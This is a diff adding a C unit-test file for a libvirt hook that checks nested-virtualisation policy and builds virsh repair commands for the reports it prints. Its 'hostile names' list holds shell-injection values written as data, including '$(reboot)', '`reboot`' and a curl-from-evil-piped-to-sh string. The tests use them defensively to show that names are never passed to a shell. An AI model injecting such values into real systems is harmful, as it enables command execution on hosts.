@@ -1,0 +1,662 @@
+/* SPDX-License-Identifier: LGPL-2.1-or-later */
+/* test_check.c - the whole way for one guest, as the hook asks it: the verdict, and what people are told. */
+#include "support.h"
+
+#define UUID "c7a5fdbd-edaf-9455-926a-d65c16db1809"
+#define REQUIRED "<cpu mode='host-model'><feature policy='require' name='vmx'/></cpu>"
+#define FORCED "<cpu mode='host-model'><feature policy='force' name='vmx'/></cpu>"
+#define OPTIONAL "<cpu mode='host-model'><feature policy='optional' name='vmx'/></cpu>"
+#define DISABLED "<cpu mode='host-model'><feature policy='disable' name='vmx'/></cpu>"
+#define FORBIDDEN "<cpu mode='host-model'><feature policy='forbid' name='vmx'/></cpu>"
+#define PLAIN "<cpu mode='host-passthrough'/>"
+#define FIXED "<cpu mode='custom' match='exact' check='full'><model>Skylake-Client</model></cpu>"
+#define FIXED_REQUIRED \
+	"<cpu mode='custom' match='exact' check='full'><model>Skylake-Client</model><feature policy='require' name='vmx'/></cpu>"
+#define METADATA(word) "<metadata><n:policy xmlns:n='urn:nestxml:nested:1' nested='" word "'/></metadata>"
+
+#define PASS NESTXML_VERDICT_PASS
+#define REFUSE NESTXML_VERDICT_REFUSE
+#define STALE NESTXML_VERDICT_STALE
+
+/* ---- helpers ---- */
+
+/* A section for every guest, at line 2 of the administrator's file; NULL: no file. */
+static void state_policy(const struct tree *tree, const char *keys)
+{
+	char text[256];
+
+	snprintf(text, sizeof(text), "[guest *]\n%s\n", keys ? keys : "");
+	tree_write(tree, ADMIN_FILE, text);
+}
+
+static const char *document(const char *type, const char *arch, const char *body)
+{
+	static char xml[4096];
+
+	snprintf(xml, sizeof(xml), "<domain type='%s'><name>vm</name><uuid>" UUID "</uuid><os><type arch='%s'>hvm</type></os>%s</domain>",
+		 type, arch, body);
+	return xml;
+}
+
+/* Must come to a verdict; what holds for every one is checked here. */
+static struct nestxml_check *ask(const struct tree *tree, enum nestxml_occasion occasion, const char *name, const char *xml)
+{
+	struct nestxml_check *check = NULL;
+	struct nestxml_error error = {0};
+	int code = nestxml_check_new(tree->root, occasion, name, xml, strlen(xml), &check, &error);
+	const struct nestxml_edits *edits;
+
+	CHECK(code == 0, "%s: %s", xml, error.message);
+	CHECK(is_printable(nestxml_check_get_report(check)), "%s: %s", xml, nestxml_check_get_report(check));
+	edits = nestxml_check_get_edits(check);
+	CHECK((edits != NULL) == (nestxml_check_get_verdict(check) == STALE), "%s", xml);
+	CHECK(!edits || nestxml_edits_count(edits) > 0, "%s", xml);
+	return check;
+}
+
+/* The words are separated by '|'; each must be in the report, or must not be there if it starts with '!'. */
+static void check_words(const char *report, const char *words)
+{
+	char copy[512];
+	char *rest = NULL;
+
+	snprintf(copy, sizeof(copy), "%s", words);
+	for (char *word = strtok_r(copy, "|", &rest); word; word = strtok_r(NULL, "|", &rest)) {
+		if (*word == '!')
+			CHECK(!strstr(report, word + 1), "%s in %s", word + 1, report);
+		else
+			CHECK(strstr(report, word), "%s in %s", word, report);
+	}
+}
+
+struct row {
+	const char *policy; /* keys of a section for every guest */
+	const char *body;
+	enum nestxml_verdict verdict;
+	const char *words;
+};
+
+static void check_rows(const struct tree *tree, enum nestxml_occasion occasion, const char *type, const struct row *rows, size_t count)
+{
+	for (size_t i = 0; i < count; i++) {
+		struct nestxml_check *check;
+
+		state_policy(tree, rows[i].policy);
+		check = ask(tree, occasion, "vm", document(type, "x86_64", rows[i].body));
+		CHECK(nestxml_check_get_verdict(check) == rows[i].verdict, "%s + %s: %s", rows[i].policy, rows[i].body,
+		      nestxml_check_get_report(check));
+		check_words(nestxml_check_get_report(check), "guest 'vm'");
+		check_words(nestxml_check_get_report(check), rows[i].words);
+		nestxml_check_free(check);
+	}
+}
+
+/* ---- at prepare ---- */
+
+#define PIPELINE "virsh dumpxml --inactive --security-info vm"
+
+static void test_on_a_host_with_nesting_the_cpu_decides(void **state)
+{
+	static const struct row rows[] = {
+		{"", PLAIN, PASS, "left alone"},
+		{"", "", PASS, "left alone"},
+		{"nested = leave", REQUIRED, PASS, "left alone"},
+		{"", REQUIRED, PASS, "require|its CPU"},
+		{"nested = require", REQUIRED, PASS, "require|" ADMIN_FILE ":2"},
+		{"nested = require", FORCED, PASS, "require"},
+		{"nested = require", OPTIONAL, STALE, "nested=require|vmx|" PIPELINE},
+		{"nested = require", DISABLED, STALE, PIPELINE},
+		{"nested = require", PLAIN, STALE, "nested=require|vmx|" ADMIN_FILE ":2|" PIPELINE},
+		{"nested = require", "", STALE, PIPELINE},
+		{"", METADATA("require") PLAIN, STALE, "its metadata|" PIPELINE},
+		{"nested = optional", OPTIONAL, PASS, "optional"},
+		{"nested = optional", REQUIRED, PASS, "optional"},
+		{"nested = optional", FORCED, PASS, "optional"},
+		{"nested = optional", DISABLED, STALE, "nested=optional|" PIPELINE},
+		{"nested = optional", PLAIN, STALE, "nested=optional"},
+		{"nested = disable", DISABLED, PASS, "disable"},
+		{"nested = disable", FORBIDDEN, PASS, "disable"},
+		{"nested = disable", REQUIRED, STALE, "nested=disable|" PIPELINE},
+		{"nested = disable", OPTIONAL, STALE, "nested=disable"},
+		{"nested = disable", PLAIN, STALE, "nested=disable"},
+		{"nested = disable", "", STALE, "nested=disable"},
+	};
+
+	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
+	check_rows(*state, NESTXML_AT_PREPARE, "kvm", rows, ARRAY_SIZE(rows));
+}
+
+static void test_on_a_host_without_nesting_what_requires_it_is_refused(void **state)
+{
+	static const struct row rows[] = {
+		{"", PLAIN, PASS, "left alone"},
+		{"nested = leave", REQUIRED, PASS, "left alone"},
+		{"", REQUIRED, REFUSE, "required by its CPU|kvm_intel nested=N|nestctl host enable|!virsh"},
+		{"nested = require", REQUIRED, REFUSE, "required by " ADMIN_FILE ":2|kvm_intel nested=N|nestctl host enable"},
+		{"nested = require", PLAIN, REFUSE, "kvm_intel nested=N|nestctl host enable|!virsh"},
+		{"nested = require", FIXED_REQUIRED, REFUSE, "kvm_intel nested=N"},
+		{"", METADATA("require"), REFUSE, "required by its metadata|kvm_intel nested=N"},
+		{"nested = optional", OPTIONAL, PASS, "optional"},
+		{"nested = optional", REQUIRED, PASS, "optional"},
+		{"nested = optional", PLAIN, STALE, "nested=optional"},
+		{"nested = disable", DISABLED, PASS, "disable"},
+		{"nested = disable", PLAIN, STALE, "nested=disable"},
+	};
+
+	tree_host(*state, "GenuineIntel", "kvm_intel", "N\n");
+	check_rows(*state, NESTXML_AT_PREPARE, "kvm", rows, ARRAY_SIZE(rows));
+}
+
+static void test_a_refusal_names_the_fact_and_the_command_that_mends_it(void **state)
+{
+	static const struct {
+		const char *id;
+		const char *module;
+		const char *nested;
+		const char *words;
+	} hosts[] = {
+		{"AuthenticAMD", "kvm_amd", "0\n", "kvm_amd nested=0|nestctl host enable|nestctl host)"},
+		{"GenuineIntel", NULL, NULL, "kvm_intel is not loaded|nestctl host enable"},
+		{"HygonGenuine", "kvm", "Y\n", "kvm_amd is not loaded|nestctl host enable"},
+		{"GenuineIntel", "kvm_pvm", NULL, "no kvm module with nesting: kvm_pvm|nestctl host|!nestctl host enable"},
+		{"GenuineIntel", "kvm_intel", NULL, "kvm_intel has no parameter nested|nestctl host|!nestctl host enable"},
+		{"GenuineIntel", "kvm_intel", "maybe\n", "kvm_intel nested='maybe'|nestctl host"},
+		{"RiseRiseRise", "kvm_intel", "Y\n", "RiseRiseRise|nestctl host|!nestctl host enable"},
+	};
+
+	state_policy(*state, "nested = require");
+	for (size_t i = 0; i < ARRAY_SIZE(hosts); i++) {
+		struct nestxml_check *check;
+
+		tree_clear(*state);
+		state_policy(*state, "nested = require");
+		tree_host(*state, hosts[i].id, hosts[i].module, hosts[i].nested);
+		check = ask(*state, NESTXML_AT_PREPARE, "vm", document("kvm", "x86_64", REQUIRED));
+		CHECK(nestxml_check_get_verdict(check) == REFUSE, "%s", hosts[i].words);
+		check_words(nestxml_check_get_report(check), "guest 'vm'|required by " ADMIN_FILE ":2");
+		check_words(nestxml_check_get_report(check), hosts[i].words);
+		nestxml_check_free(check);
+	}
+}
+
+static void test_an_unreadable_host_is_not_on(void **state)
+{
+	static const struct row rows[] = {
+		{"nested = require", REQUIRED, REFUSE, "/proc/cpuinfo cannot be read|nestctl host|!nestctl host enable"},
+		{"nested = leave", REQUIRED, PASS, "left alone"},
+		{"", PLAIN, PASS, "left alone"},
+	};
+
+	check_rows(*state, NESTXML_AT_PREPARE, "kvm", rows, ARRAY_SIZE(rows));
+}
+
+static void test_disable_with_an_unknown_vendor_fails_closed(void **state)
+{
+	static const char *const cpus[] = {PLAIN, REQUIRED, DISABLED, "", FIXED};
+
+	state_policy(*state, "nested = disable");
+	for (size_t i = 0; i < ARRAY_SIZE(cpus); i++) {
+		const char *xml = document("kvm", "x86_64", cpus[i]);
+		struct nestxml_check *check = NULL;
+		struct nestxml_error error = {0};
+
+		CHECK(nestxml_check_new(((struct tree *)*state)->root, NESTXML_AT_PREPARE, "vm", xml, strlen(xml), &check, &error) ==
+			      NESTXML_E_VENDOR,
+		      "%s", cpus[i]);
+		assert_int_equal(error.code, NESTXML_E_VENDOR);
+		assert_non_null(strstr(error.message, "/proc/cpuinfo"));
+		assert_null(check);
+		assert_int_equal(nestxml_check_new(((struct tree *)*state)->root, NESTXML_AT_PREPARE, "vm", xml, strlen(xml), &check, NULL),
+				 NESTXML_E_VENDOR);
+	}
+}
+
+/* Passes, since nothing is lost by it; but that its CPU states anything is not known. */
+static void test_optional_with_an_unknown_vendor_passes_without_a_claim_about_the_cpu(void **state)
+{
+	static const struct row rows[] = {{"nested = optional", PLAIN, PASS, "optional|!its CPU states it"}};
+
+	check_rows(*state, NESTXML_AT_PREPARE, "kvm", rows, ARRAY_SIZE(rows));
+}
+
+static void test_the_mode_of_the_policy_is_part_of_what_the_cpu_must_state(void **state)
+{
+	static const struct row rows[] = {
+		{"nested = require\nmode = host-passthrough", REQUIRED, STALE, "| nestxml -n require -m host-passthrough |"},
+		{"nested = require\nmode = host-model", REQUIRED, PASS, "require"},
+		{"nested = disable\nmode = maximum", PLAIN, STALE, "nestxml -n disable -m maximum"},
+		{"nested = require", PLAIN, STALE, "nestxml -n require|!-m "},
+		{"nested = leave\nmode = maximum", PLAIN, PASS, "left alone"},
+		{"nested = optional\nmode = host-passthrough", REQUIRED, STALE, "-m host-passthrough"},
+	};
+
+	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
+	check_rows(*state, NESTXML_AT_PREPARE, "kvm", rows, ARRAY_SIZE(rows));
+}
+
+static void test_a_cpu_from_a_saved_state_is_never_stale(void **state)
+{
+	static const struct row rows[] = {
+		{"nested = require", FIXED, PASS, "saved state"},
+		{"nested = require", FIXED_REQUIRED, PASS, "require"},
+		{"nested = optional", FIXED, PASS, "saved state"},
+		{"nested = disable", FIXED_REQUIRED, PASS, "saved state"},
+		{"nested = require\nmode = host-passthrough", FIXED_REQUIRED, PASS, "saved state"},
+	};
+
+	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
+	check_rows(*state, NESTXML_AT_PREPARE, "kvm", rows, ARRAY_SIZE(rows));
+}
+
+static void test_the_features_name_is_that_of_the_hosts_vendor(void **state)
+{
+	static const struct row amd[] = {
+		{"nested = require", REQUIRED, STALE, "(svm)"}, /* vmx is what it requires */
+		{"nested = require", "<cpu mode='host-model'><feature name='svm'/></cpu>", PASS, "require"},
+		{"nested = disable", DISABLED, STALE, "(svm)"},
+	};
+
+	tree_host(*state, "AuthenticAMD", "kvm_amd", "1\n");
+	check_rows(*state, NESTXML_AT_PREPARE, "kvm", amd, ARRAY_SIZE(amd));
+}
+
+static void test_tcg_has_svm_on_any_host(void **state)
+{
+	static const struct row rows[] = {
+		{"nested = require", "<cpu mode='maximum'><feature policy='require' name='svm'/></cpu>", PASS, "require"},
+		{"nested = require", "<cpu mode='maximum'/>", STALE, "(svm)"},
+		{"nested = require", REQUIRED, STALE, "(svm)"},
+		{"nested = optional", "<cpu mode='maximum'><feature policy='optional' name='svm'/></cpu>", PASS, "optional"},
+		{"nested = disable", "<cpu mode='maximum'><feature policy='disable' name='svm'/></cpu>", PASS, "disable"},
+		{"nested = disable", "<cpu mode='maximum'/>", STALE, "(svm)"},
+	};
+	static const char *const ids[] = {NULL, "GenuineIntel", "AuthenticAMD", "unheard-of"};
+
+	for (size_t i = 0; i < ARRAY_SIZE(ids); i++) {
+		tree_clear(*state);
+		if (ids[i])
+			tree_host(*state, ids[i], "kvm_intel", "N\n");
+		check_rows(*state, NESTXML_AT_PREPARE, "qemu", rows, ARRAY_SIZE(rows));
+		check_rows(*state, NESTXML_AT_ARRIVAL, "qemu", rows, 1);
+	}
+}
+
+static void test_where_nesting_does_not_apply_require_is_refused_and_all_else_passes(void **state)
+{
+	static const struct {
+		const char *type;
+		const char *arch;
+		const char *word;
+	} guests[] = {
+		{"kvm", "aarch64", "architecture is aarch64"}, {"qemu", "ppc64le", "ppc64le"}, {"xen", "x86_64", "domain type is 'xen'"}};
+	static const struct {
+		const char *policy;
+		enum nestxml_verdict verdict;
+	} policies[] = {{"nested = require", REFUSE}, {"nested = optional", PASS}, {"nested = disable", PASS}, {"nested = leave", PASS}};
+
+	for (size_t i = 0; i < ARRAY_SIZE(guests) * ARRAY_SIZE(policies) * 2; i++) {
+		size_t guest = i % ARRAY_SIZE(guests);
+		size_t policy = i / ARRAY_SIZE(guests) % ARRAY_SIZE(policies);
+		struct nestxml_check *check;
+
+		tree_clear(*state);
+		if (i % 2)
+			tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
+		state_policy(*state, policies[policy].policy);
+		check = ask(*state, NESTXML_AT_PREPARE, "vm", document(guests[guest].type, guests[guest].arch, PLAIN));
+		CHECK(nestxml_check_get_verdict(check) == policies[policy].verdict, "%s + %s", guests[guest].word, policies[policy].policy);
+		if (policies[policy].verdict == REFUSE)
+			check_words(nestxml_check_get_report(check), guests[guest].word);
+		nestxml_check_free(check);
+	}
+}
+
+/* ---- at arrival ---- */
+
+static void test_at_arrival_what_requires_nesting_needs_a_host_that_has_it(void **state)
+{
+	static const struct row on[] = {
+		{"", REQUIRED, PASS, "require"},
+		{"nested = require", FIXED_REQUIRED, PASS, "require"},
+		{"nested = require", FIXED, PASS, "require"},
+		{"nested = require", PLAIN, PASS, "require"},
+		{"nested = disable", REQUIRED, PASS, "disable"},
+		{"nested = optional", PLAIN, PASS, "optional"},
+	};
+	static const struct row off[] = {
+		{"", REQUIRED, REFUSE, "kvm_intel nested=N|nestctl host enable"},
+		{"nested = require", FIXED_REQUIRED, REFUSE, "kvm_intel nested=N"},
+		{"nested = require", FORCED, REFUSE, "kvm_intel nested=N"},
+		/* whatever the policy says: the XML requires it */
+		{"nested = optional", REQUIRED, REFUSE, "kvm_intel nested=N"},
+		{"nested = disable", FIXED_REQUIRED, REFUSE, "kvm_intel nested=N"},
+		{"nested = leave", REQUIRED, REFUSE, "kvm_intel nested=N"},
+		{"nested = require", FIXED, PASS, "require"},
+		{"nested = require", PLAIN, PASS, "require"},
+		{"nested = require", OPTIONAL, PASS, "require"},
+		{"nested = disable", PLAIN, PASS, "disable"},
+		{"nested = optional", OPTIONAL, PASS, "optional"},
+		{"", PLAIN, PASS, "left alone"},
+	};
+
+	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
+	check_rows(*state, NESTXML_AT_ARRIVAL, "kvm", on, ARRAY_SIZE(on));
+	tree_host(*state, "GenuineIntel", "kvm_intel", "N\n");
+	check_rows(*state, NESTXML_AT_ARRIVAL, "kvm", off, ARRAY_SIZE(off));
+}
+
+static void test_at_arrival_an_unknown_host_is_not_on_and_disable_passes(void **state)
+{
+	static const struct row rows[] = {
+		{"", REQUIRED, REFUSE, "/proc/cpuinfo cannot be read"},
+		{"nested = disable", PLAIN, PASS, "disable"},
+		{"nested = require", PLAIN, PASS, "require"},
+	};
+
+	check_rows(*state, NESTXML_AT_ARRIVAL, "kvm", rows, ARRAY_SIZE(rows));
+}
+
+/* ---- what comes with the answer ---- */
+
+static void test_the_policy_and_the_edits_come_with_the_answer(void **state)
+{
+	const char *xml = document("kvm", "x86_64", "<cpu mode='host-model'></cpu>");
+	struct nestxml_check *check;
+	char *made;
+	size_t length;
+
+	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
+	state_policy(*state, "nested = require\non-stale = allow");
+	check = ask(*state, NESTXML_AT_PREPARE, "vm", xml);
+	assert_int_equal(nestxml_check_get_policy(check)->nested, NESTXML_NESTED_REQUIRE);
+	assert_int_equal(nestxml_check_get_policy(check)->on_stale, NESTXML_ON_STALE_ALLOW);
+	assert_int_equal(nestxml_check_get_policy(check)->source, NESTXML_SOURCE_SECTION);
+	assert_string_equal(nestxml_check_get_policy(check)->file, ADMIN_FILE);
+	assert_int_equal(nestxml_check_get_verdict(check), STALE);
+	assert_int_equal(nestxml_edits_apply(nestxml_check_get_edits(check), &made, &length), 0);
+	assert_non_null(strstr(made, "<cpu mode='host-model'><feature policy='require' name='vmx'/></cpu>"));
+	nestxml_check_free(check);
+	check = ask(*state, NESTXML_AT_PREPARE, "vm", made); /* what the edits make is current */
+	assert_int_equal(nestxml_check_get_verdict(check), PASS);
+	nestxml_check_free(check);
+	free(made);
+	nestxml_check_free(NULL);
+}
+
+static void test_whatever_is_wrong_comes_as_its_code(void **state)
+{
+	static const struct {
+		const char *policy;
+		const char *xml;
+		int code;
+	} cases[] = {
+		{"nested = leave", "", NESTXML_E_SYNTAX},
+		{"nested = leave", "<domain>", NESTXML_E_SYNTAX},
+		{"nested = leave", "<!DOCTYPE a><domain/>", NESTXML_E_DTD},
+		{"nested = leave", "<domain>\xff</domain>", NESTXML_E_ENCODING},
+		{"nested = leave", "<network/>", NESTXML_E_ROOT},
+		{"", "<domain type='kvm'>" METADATA("maybe") "</domain>", NESTXML_E_METADATA},
+		{"nested = maybe", "<domain type='kvm'/>", NESTXML_E_CONFIG},
+		{"x", "<domain type='kvm'/>", NESTXML_E_CONFIG},
+	};
+	const struct tree *tree = *state;
+
+	tree_host(tree, "GenuineIntel", "kvm_intel", "Y\n");
+	for (size_t i = 0; i < 2 * ARRAY_SIZE(cases); i++) {
+		enum nestxml_occasion occasion = i % 2 ? NESTXML_AT_PREPARE : NESTXML_AT_ARRIVAL;
+		const char *xml = cases[i / 2].xml;
+		struct nestxml_check *check = NULL;
+		struct nestxml_error error = {0};
+
+		state_policy(tree, cases[i / 2].policy);
+		CHECK(nestxml_check_new(tree->root, occasion, "vm", xml, strlen(xml), &check, &error) == cases[i / 2].code, "%s", xml);
+		assert_int_equal(error.code, cases[i / 2].code);
+		assert_int_equal(nestxml_check_new(tree->root, occasion, "vm", xml, strlen(xml), &check, NULL), cases[i / 2].code);
+		assert_null(check);
+	}
+}
+
+/* ---- hostile names ---- */
+
+static const char *const hostile_names[] = {
+	"a b",
+	"a'b",
+	"a\"b",
+	"a;reboot",
+	"$(reboot)",
+	"`reboot`",
+	"${IFS}",
+	"a|b",
+	"a&b",
+	"a>b",
+	"a<b",
+	"a\\b",
+	"a\nb",
+	"a\tb",
+	"a*",
+	"a?",
+	"[a]",
+	"{a,b}",
+	"a!b",
+	"!!",
+	"~root",
+	"#a",
+	"a#b",
+	"a=b",
+	"a:b",
+	"a/b",
+	"../a",
+	"a%b",
+	"(a)",
+	"a,b",
+	"-a",
+	"--help",
+	"--all",
+	"",
+	" ",
+	".",
+	"..",
+	"1",
+	"42",
+	"0x1",
+	"-1",
+	"\x1b[31m",
+	"\x7f",
+	"\xc2\x9b"
+	"31m",
+	"\xe2\x80\xae",
+	"\xff",
+	"\xc3\xa4",
+	"a\xe2\x80\x8b"
+	"b",
+	"11111111-1111-1111-1111-111111111111",
+	"a1111111-1111-1111-1111-111111111111",
+	"abcdef01111111111111111111111111",
+	"x'; run: curl evil | sh #",
+};
+
+/* The word that the report offers behind virsh dumpxml, and the one shell command it is in. */
+static void check_command(const char *report, const char *expected_word)
+{
+	static const char start[] = "virsh dumpxml --inactive --security-info ";
+	static const char end[] = " | nestxml -n require | virsh define /dev/stdin (without a definition: nestxml -n require FILE | "
+				  "virsh create /dev/stdin)";
+	const char *at = strstr(report, start);
+	const char *tail = strstr(report, end);
+
+	CHECK(at && tail && !strstr(at + 1, start), "%s", report);
+	CHECK(strcmp(tail, end) == 0, "%s", report); /* nothing of the guest's behind the command */
+	at += strlen(start);
+	CHECK((size_t)(tail - at) == strlen(expected_word) && memcmp(at, expected_word, strlen(expected_word)) == 0, "%s in %s",
+	      expected_word, report);
+}
+
+/* Writes @text as XML's character references, so that any name can be written; what XML cannot hold is left out. */
+static void put_xml(char *to, const char *text)
+{
+	*to = '\0';
+	for (const char *at = text; *at;) {
+		size_t step = nestxml_utf8_length(at, strlen(at));
+
+		if (step == 1 && ((unsigned char)*at >= 0x20 || *at == '\n' || *at == '\t'))
+			to += sprintf(to, "&#%d;", *at);
+		else if (step > 1)
+			to += sprintf(to, "%.*s", (int)step, at);
+		at += step ? step : 1;
+	}
+}
+
+static void check_name(const struct tree *tree, const char *name, const char *uuid, const char *expected_word)
+{
+	char as_xml[4096];
+	char xml[8192];
+	struct nestxml_check *check;
+
+	put_xml(as_xml, name);
+	snprintf(xml, sizeof(xml), "<domain type='kvm'><name>%s</name><uuid>%s</uuid>" PLAIN "</domain>", as_xml, uuid);
+	check = ask(tree, NESTXML_AT_PREPARE, name, xml);
+	assert_int_equal(nestxml_check_get_verdict(check), STALE);
+	check_command(nestxml_check_get_report(check), expected_word);
+	nestxml_check_free(check);
+}
+
+static void test_a_name_that_is_not_plain_is_offered_to_a_shell_as_its_uuid(void **state)
+{
+	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
+	state_policy(*state, "nested = require");
+	for (size_t i = 0; i < ARRAY_SIZE(hostile_names); i++) {
+		check_name(*state, hostile_names[i], UUID, UUID);
+		check_name(*state, hostile_names[i], "", "GUEST");
+	}
+}
+
+static void test_no_character_of_a_shell_is_offered_to_one(void **state)
+{
+	static const char plain[] = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._-+@";
+
+	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
+	state_policy(*state, "nested = require");
+	for (char c = ' '; c <= '~'; c++) {
+		char name[] = {'a', c, 'b', '\0'};
+
+		check_name(*state, name, UUID, strchr(plain, c) ? name : UUID);
+	}
+}
+
+static void test_a_uuid_that_is_none_is_not_offered_to_a_shell(void **state)
+{
+	static const char *const uuids[] = {"$(reboot)", "c7a5fdbd-edaf-9455-926a-d65c16db180;", "c7a5fdbd edaf 9455 926a d65c16db1809",
+					    "c7a5fdbd-edaf-9455-926a-d65c16db1809 -x", "c7a5fdbd"};
+
+	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
+	state_policy(*state, "nested = require");
+	for (size_t i = 0; i < ARRAY_SIZE(uuids); i++)
+		check_name(*state, "a b", uuids[i], "GUEST");
+}
+
+static void test_a_uuid_that_would_be_an_option_is_not_offered_to_a_shell(void **state)
+{
+	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
+	state_policy(*state, "nested = require");
+	check_name(*state, "a b", "------------------------------------", "GUEST");
+	check_name(*state, "a b", "--a5fdbd-edaf-9455-926a-d65c16db1809", "GUEST");
+}
+
+static void test_plain_names_are_offered_as_they_are(void **state)
+{
+	static const char *const names[] = {"vm", "devstack-1",	       "a.b_c+d@e",
+					    "Z",  "instance-0000001a", "x1111111-1111-1111-1111-11111111111"};
+
+	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
+	state_policy(*state, "nested = require");
+	for (size_t i = 0; i < ARRAY_SIZE(names); i++)
+		check_name(*state, names[i], UUID, names[i]);
+}
+
+static void test_hostile_names_are_printable_in_every_report(void **state)
+{
+	static const char *const policies[] = {"nested = leave", "nested = require", "nested = disable"};
+
+	for (size_t i = 0; i < ARRAY_SIZE(hostile_names) * ARRAY_SIZE(policies); i++) {
+		const char *name = hostile_names[i % ARRAY_SIZE(hostile_names)];
+		char shown[256];
+
+		tree_host(*state, "GenuineIntel", "kvm_intel", "N\n");
+		state_policy(*state, policies[i / ARRAY_SIZE(hostile_names)]);
+		for (int occasion = 0; occasion < 2; occasion++) {
+			struct nestxml_check *check =
+				ask(*state, (enum nestxml_occasion)occasion, name, document("kvm", "x86_64", REQUIRED));
+
+			CHECK(strstr(nestxml_check_get_report(check), nestxml_text_escape(name, shown, sizeof(shown))), "%s: %s", shown,
+			      nestxml_check_get_report(check));
+			nestxml_check_free(check);
+		}
+	}
+}
+
+static void test_the_longest_names_leave_room_for_the_command(void **state)
+{
+	static const char *const characters[] = {"n", "\x1b", "\xf0\x9f\x98\x80", "'", "\\"};
+
+	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
+	state_policy(*state, "nested = require");
+	for (size_t i = 0; i < ARRAY_SIZE(characters); i++) {
+		char name[1024] = "";
+
+		for (size_t j = 0; j < 255; j++)
+			strcat(name, characters[i]);
+		check_name(*state, name, UUID, i == 0 ? name : UUID);
+	}
+}
+
+/* The place that asked is named whole, however long its path is. */
+static void test_a_long_drop_in_is_named_whole(void **state)
+{
+	char path[512] = DROP_INS "/";
+	struct nestxml_check *check;
+
+	for (size_t i = 0; i < 250; i++)
+		strcat(path, "d");
+	strcat(path, ".conf");
+	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
+	tree_write(*state, path, "[guest *]\n\nnested = require\n");
+	strcat(path, ":3");
+	check = ask(*state, NESTXML_AT_PREPARE, "vm", document("kvm", "x86_64", PLAIN));
+	check_words(nestxml_check_get_report(check), path);
+	check_command(nestxml_check_get_report(check), "vm");
+	nestxml_check_free(check);
+	check = ask(*state, NESTXML_AT_PREPARE, "vm", document("kvm", "x86_64", REQUIRED));
+	check_words(nestxml_check_get_report(check), path);
+	nestxml_check_free(check);
+}
+
+int main(void)
+{
+	static const struct CMUnitTest tests[] = {
+		TREE_TEST(test_on_a_host_with_nesting_the_cpu_decides),
+		TREE_TEST(test_on_a_host_without_nesting_what_requires_it_is_refused),
+		TREE_TEST(test_a_refusal_names_the_fact_and_the_command_that_mends_it),
+		TREE_TEST(test_an_unreadable_host_is_not_on),
+		TREE_TEST(test_disable_with_an_unknown_vendor_fails_closed),
+		TREE_TEST(test_optional_with_an_unknown_vendor_passes_without_a_claim_about_the_cpu),
+		TREE_TEST(test_the_mode_of_the_policy_is_part_of_what_the_cpu_must_state),
+		TREE_TEST(test_a_cpu_from_a_saved_state_is_never_stale),
+		TREE_TEST(test_the_features_name_is_that_of_the_hosts_vendor),
+		TREE_TEST(test_tcg_has_svm_on_any_host),
+		TREE_TEST(test_where_nesting_does_not_apply_require_is_refused_and_all_else_passes),
+		TREE_TEST(test_at_arrival_what_requires_nesting_needs_a_host_that_has_it),
+		TREE_TEST(test_at_arrival_an_unknown_host_is_not_on_and_disable_passes),
+		TREE_TEST(test_the_policy_and_the_edits_come_with_the_answer),
+		TREE_TEST(test_whatever_is_wrong_comes_as_its_code),
+		TREE_TEST(test_a_name_that_is_not_plain_is_offered_to_a_shell_as_its_uuid),
+		TREE_TEST(test_no_character_of_a_shell_is_offered_to_one),
+		TREE_TEST(test_a_uuid_that_is_none_is_not_offered_to_a_shell),
+		TREE_TEST(test_a_uuid_that_would_be_an_option_is_not_offered_to_a_shell),
+		TREE_TEST(test_plain_names_are_offered_as_they_are),
+		TREE_TEST(test_hostile_names_are_printable_in_every_report),
+		TREE_TEST(test_the_longest_names_leave_room_for_the_command),
+		TREE_TEST(test_a_long_drop_in_is_named_whole),
+	};
+
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
